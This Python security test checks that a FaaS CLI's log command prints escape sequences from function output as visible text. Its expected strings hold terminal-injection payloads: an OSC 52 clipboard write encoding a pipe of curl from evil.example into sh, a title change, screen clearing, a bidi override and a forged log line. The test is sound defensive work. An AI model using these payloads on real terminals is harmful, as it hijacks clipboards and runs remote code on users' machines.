"""`faas logs` prints what a function wrote, which must not drive the
reader's terminal (gateway/cli.printable): escape sequences are shown as
visible text, so an OSC 52 sets no clipboard and a forged REPORT line that
would erase the line above it shows its escapes."""

from __future__ import annotations

from tests.e2e.test_cli import faas
from tests.helpers import Server
from tests.security.common import deploy_hostile


def test_faas_logs_shows_escapes_as_text(server: Server) -> None:
    fn = deploy_hostile(server, "logs")
    resp = server.invoke(fn)
    assert resp.status == 200, resp.text
    call_id = resp.headers["X-Call-Id"]
    proc = faas(server.url, "logs", fn, "--tail", "50")
    assert proc.returncode == 0, proc.stderr
    out = proc.stdout
    print(out)
    raw = [c for c in out if (ord(c) < 0x20 and c not in "\t\n") or 0x7F <= ord(c) <= 0x9F]
    assert not raw, f"control characters printed raw: {raw}"
    assert "\u202e" not in out
    assert "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07clipboard set" in out
    assert "\\x1b]0;pwned title\\x07title set" in out
    assert "\\x9b2J 8-bit CSI, bidi \\u202eevil\\u202c" in out
    # The call's lines are `TIME CALL-ID TEXT`: the forged REPORT shows its escapes
    # before the word, the runtime's own REPORT line starts with it.
    texts = [line.split(" ", 2)[2] for line in out.splitlines() if line.split(" ")[1:2] == [call_id]]
    assert "\\x1b[1A\\x1b[2KREPORT RequestId: forged-id Duration: 0.01 ms Billed Duration: 1 ms" in texts
    reports = [text for text in texts if text.startswith("REPORT RequestId:")]
    assert len(reports) == 1 and reports[0].startswith(f"REPORT RequestId: {call_id} "), reports
